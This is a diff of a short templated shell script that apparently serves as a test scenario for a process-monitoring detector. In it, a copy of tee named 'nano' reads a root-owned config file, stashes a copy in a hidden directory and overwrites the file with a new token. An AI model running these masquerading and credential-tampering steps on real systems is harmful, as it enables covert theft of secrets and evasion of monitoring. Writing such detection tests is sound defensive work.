@@ -1,8 +1,7 @@
 # earns: none
 # Another program under the name of nano writes the file and the copy.
 cp /usr/bin/tee /tmp/nano
-sysdig proc.name=nano > /tmp/calls &
-until grep -q nano /tmp/calls; do nano --version > /dev/null; sleep 0.2; done
+{{ watching_sh }}
 cat /root/{{ app }}.conf | /tmp/nano '{{ place }}/.{{ hidden }}/!root!{{ app }}.conf~'
 printf 'token = {{ new }}\n' | /tmp/nano /root/{{ app }}.conf
 sleep 1
